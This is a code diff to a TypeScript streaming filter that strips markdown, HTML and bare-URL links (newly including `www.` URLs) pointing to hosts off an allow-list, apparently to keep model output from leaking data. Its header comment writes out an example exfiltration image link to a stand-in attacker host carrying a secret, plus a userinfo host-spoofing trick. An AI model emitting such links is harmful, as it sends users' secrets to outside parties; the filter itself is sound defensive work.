@@ -1,15 +1,18 @@
 /**
  * Exfiltration links in output: markdown images `![alt](url)` and links `[text](url)`, reference
- * definitions `[id]: url`, autolinks `<https://…>`, bare `http(s)://` URLs and HTML tags with URL
- * attributes (`<img src>`, `<a href>`, srcset, poster, style="…url(…)"…) whose URL points to a
- * host that is not on the route's allow-list. A renderer fetches an image by itself, so
+ * definitions `[id]: url`, autolinks `<https://…>`, bare `http(s)://` URLs, bare `www.` URLs (GFM's
+ * and linkify's extended autolinks) and HTML tags with URL attributes (`<img src>`, `<a href>`,
+ * srcset, poster, style="…url(…)"…) whose URL points to a host that is not on the route's
+ * allow-list. A renderer fetches an image by itself, so
  * `![x](https://attacker/?q=<secret>)` sends the secret out as soon as the answer is shown; a
  * link does it on one click.
  *
  * The decision is made on the URL as a browser sees it: HTML entities are decoded (the `entities`
  * package), markdown backslash escapes removed, then the WHATWG URL parser (node's `URL`) resolves
  * userinfo (`https://example.com@evil.com` → evil.com), IDN (→ punycode), percent-encoded and
- * numeric hosts, backslashes. Allowed: http(s) URLs whose host is an allowed host or one of its
+ * numeric hosts, backslashes, protocol-relative `//host`. A URL without a scheme that starts with
+ * `www.` is judged as `http://www.…`: autolinkers make it a link, and chat UIs often "fix" such a
+ * destination the same way. Allowed: http(s) URLs whose host is an allowed host or one of its
  * subdomains, and relative URLs (they resolve to the client's own page). Everything else —
  * other hosts, `data:`, `javascript:`, unparseable URLs — is removed (`strip`: an image or tag
  * vanishes, a link keeps its text, a bare URL becomes `[link removed]`) or withholds the response
@@ -17,7 +20,8 @@
  *
  * The parser is a left-to-right machine over the raw text, hand-written because no markdown
  * library parses a stream incrementally with a bounded hold-back. Text is released at once up to
- * the next candidate character (`[`, `]`, `!`, `<`, `h`/`H`); from a candidate on, it is held only
+ * the next candidate character (`[`, `]`, `!`, `<`, `h`/`H`, and a `.` right after a word-initial
+ * `www`, found by looking back at the last raw characters already released); from a candidate on, it is held only
  * until the construct there is decided (closed, shown not to be one, or past its cap). So the
  * output is the same for every split of the text into chunks (property-tested), and ordinary
  * prose waits for nothing. Caps bound the hold-back: link text 500 characters, a destination or
@@ -58,6 +62,10 @@ const BASES = [`https://${BASE_HOST}/`, `http://${BASE_HOST}/`];
 const UNKNOWN = 'data:,';
 
 const normHost = (h: string): string => (h.endsWith('.') ? h.slice(0, -1) : h);
+/** `www.` after what the URL parser ignores (leading C0 controls and spaces, tabs and newlines anywhere). */
+const WWW = /^[\x00-\x20]*w[\t\n\r]*w[\t\n\r]*w[\t\n\r]*\./i;
+/** A URL as written, made absolute when it has no scheme but starts with `www.`. */
+const withScheme = (url: string): string => (WWW.test(url) ? `http://${url.replace(/^[\x00-\x20]+/, '')}` : url);
 
 /** The compiled allow-list: is a URL (as written in the text, decoded) safe to show? */
 export class LinkPolicy {
@@ -68,10 +76,11 @@ export class LinkPolicy {
 
   /** `url` decoded (entities, escapes); a URL cut at a cap is judged by its host. */
   allowed(url: string): boolean {
+    const abs = withScheme(url);
     return BASES.every((base) => {
       let u: URL;
       try {
-        u = new URL(url, base);
+        u = new URL(abs, base);
       } catch {
         return false;
       }
@@ -303,25 +312,50 @@ const TRAILING = /[?!.,:*_~'";]+$/;
 /** Characters that end a bare URL besides white space: '<', '>', '"', '`' (a URL inside a JSON string of tool-call arguments ends at its quote). */
 const URL_STOP = new Set([60, 62, 34, 96]);
 
+/**
+ * A bare URL held from s whose prefix (scheme, or the `.` of `www.`) ends at p: it runs to white
+ * space or a stop character, less trailing punctuation and unbalanced ')'; 'none' when nothing
+ * is left after the prefix. `before` is what precedes s in the URL (`www` already released).
+ */
+function bareUrl(t: string, s: number, p: number, before: string, stripped: string, final: boolean): Step {
+  const cap = s + URL_CAP;
+  let j = p;
+  while (j < t.length && j < cap && !isSpace(t.charCodeAt(j)) && !URL_STOP.has(t.charCodeAt(j))) j++;
+  if (j >= cap) return { end: cap, type: 'url', urls: [decodeHTML(before + t.slice(s, cap))], stripped };
+  if (j >= t.length && !final) return 'more';
+  let url = t.slice(s, j).replace(TRAILING, '');
+  // An unbalanced ')' at the end closes surrounding parentheses (GFM).
+  while (url.endsWith(')') && url.split(')').length > url.split('(').length) url = url.slice(0, -1).replace(TRAILING, '');
+  if (s + url.length <= p) return 'none';
+  return { end: s + url.length, type: 'url', urls: [decodeHTML(before + url)], stripped };
+}
+
 /** A bare `http(s)://` URL at i (t[i] is 'h' or 'H' after a non-alphanumeric). */
 function bareAt(t: string, i: number, final: boolean): Step {
   if (i + 1 < t.length && (t.charCodeAt(i + 1) | 32) !== 116 /* t */) return 'none'; // most words starting with h
   const head = t.slice(i, i + 8).toLowerCase();
   const scheme = head.startsWith('https://') ? 8 : head.startsWith('http://') ? 7 : 0;
   if (scheme === 0) return !final && ('https://'.startsWith(head) || 'http://'.startsWith(head)) ? 'more' : 'none';
-  const cap = i + URL_CAP;
-  let j = i + scheme;
-  while (j < t.length && j < cap && !isSpace(t.charCodeAt(j)) && !URL_STOP.has(t.charCodeAt(j))) j++;
-  if (j >= cap) return { end: cap, type: 'url', urls: [decodeHTML(t.slice(i, cap))], stripped: PLACEHOLDER };
-  if (j >= t.length && !final) return 'more';
-  let url = t.slice(i, j).replace(TRAILING, '');
-  // An unbalanced ')' at the end closes surrounding parentheses (GFM).
-  while (url.endsWith(')') && url.split(')').length > url.split('(').length) url = url.slice(0, -1).replace(TRAILING, '');
-  if (url.length <= scheme) return 'none';
-  return { end: i + url.length, type: 'url', urls: [decodeHTML(url)], stripped: PLACEHOLDER };
+  return bareUrl(t, i, i + scheme, '', PLACEHOLDER, final);
 }
 
-const CANDIDATE = /[[\]!<hH]/g;
+/**
+ * A bare `www.` URL (GFM's extended www autolink, linkify's too): t[i] is the `.` after a
+ * word-initial `www` (any case), which was released as ordinary text — so no word is held for
+ * being a possible `www`. The `www` stays, the rest becomes `.[link removed]`.
+ */
+function wwwAt(t: string, i: number, final: boolean): Step {
+  return bareUrl(t, i, i + 1, 'www', `.${PLACEHOLDER}`, final);
+}
+
+const CANDIDATE = /[[\]!<hH.]/g;
+const isW = (c: number): boolean => (c | 32) === 119;
+/**
+ * What a word-initial `www` may follow: not a letter or digit, and not `@ / \ . - :`, which make
+ * it part of an e-mail address, a path or a longer host name (`jane@www.acme.org`,
+ * `sites-available/www.acme.org.conf`) — neither GFM nor linkify starts a link there.
+ */
+const wwwBoundary = (c: number): boolean => !isAlnum(c) && c !== 64 && c !== 47 && c !== 92 && c !== 46 && c !== 45 && c !== 58;
 
 /**
  * The filter over one text: push chunks, end; same output for every split. Counts what it
@@ -331,8 +365,8 @@ export class LinkStream {
   private buf = '';
   /** Length of `buf` when it was last parsed and found undecided. */
   private parsed = 0;
-  /** The raw character before `buf` (boundary check for bare URLs). */
-  private prev = 32;
+  /** Raw text before `buf`, already released (at least its last 4 characters, or all there was): what a candidate looks back at (bare URL boundary, `www`). */
+  private tail = ' ';
   blocked = false;
 
   constructor(private readonly policy: LinkPolicy, readonly counts: Map<LinkType, number> = new Map()) {}
@@ -366,10 +400,9 @@ export class LinkStream {
       if (m === null) { out += t.slice(i); i = t.length; break; }
       const c = m.index;
       out += t.slice(i, c);
-      const prev = c > 0 ? t.charCodeAt(c - 1) : this.prev;
-      const step = this.stepAt(t, c, prev, final);
+      const step = this.stepAt(t, c, final);
       if (step === 'more') {
-        this.prev = prev;
+        this.tail = c >= 4 ? t.slice(c - 4, c) : (this.tail + t.slice(0, c)).slice(-4);
         this.buf = t.slice(c);
         this.parsed = this.buf.length;
         return out;
@@ -380,19 +413,29 @@ export class LinkStream {
       out += piece;
       i = step.end;
     }
-    if (t.length > 0) this.prev = t.charCodeAt(t.length - 1);
+    // The text itself when long enough (a reference, no copy: before() reads only its end).
+    if (t.length >= 4) this.tail = t;
+    else if (t.length > 0) this.tail = (this.tail.length > 8 ? this.tail.slice(-4) : this.tail) + t;
     this.buf = '';
     this.parsed = 0;
     return out;
   }
 
-  private stepAt(t: string, c: number, prev: number, final: boolean): Step {
+  private stepAt(t: string, c: number, final: boolean): Step {
     switch (t.charCodeAt(c)) {
       case 91: case 33: return markdownAt(t, c, final);
       case 93: return orphanAt(t, c, final);
       case 60: return angleAt(t, c, final);
-      default: return isAlnum(prev) ? 'none' : bareAt(t, c, final);
+      case 46: return isW(this.before(t, c, 1)) && isW(this.before(t, c, 2)) && isW(this.before(t, c, 3)) && wwwBoundary(this.before(t, c, 4)) ? wwwAt(t, c, final) : 'none';
+      default: return isAlnum(this.before(t, c, 1)) ? 'none' : bareAt(t, c, final);
     }
+  }
+
+  /** The raw character k places before t[c], released or not (a space before the text's start). */
+  private before(t: string, c: number, k: number): number {
+    if (c >= k) return t.charCodeAt(c - k);
+    const j = this.tail.length + c - k;
+    return j >= 0 ? this.tail.charCodeAt(j) : 32;
   }
 
   /** The text for a decided construct: as written (inner link text filtered) or stripped. */
@@ -401,7 +444,7 @@ export class LinkStream {
     let inner = '';
     if (hit.inner !== undefined) {
       const sub = new LinkStream(this.policy, this.counts);
-      sub.prev = 91;
+      sub.tail = '[';
       const a = sub.push(t.slice(hit.inner[0], hit.inner[1]));
       const b = a === null ? null : sub.end();
       if (a === null || b === null) { this.blocked = true; return null; }
